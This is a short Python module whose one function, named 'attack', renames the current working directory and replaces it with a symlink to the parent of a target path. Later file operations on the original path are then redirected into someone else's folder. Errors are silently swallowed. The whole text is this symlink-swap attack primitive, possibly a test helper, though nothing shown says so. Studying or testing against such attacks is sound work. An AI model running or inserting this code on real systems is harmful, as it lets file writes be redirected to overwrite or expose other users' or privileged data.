"""Puts a link to somebody's folder in the place of its own."""
import os


def attack(target):
    box = os.getcwd()
    try:
        os.rename(box, box + "_moved")
        os.symlink(os.path.dirname(target), box)
    except OSError:
        pass
    return 1
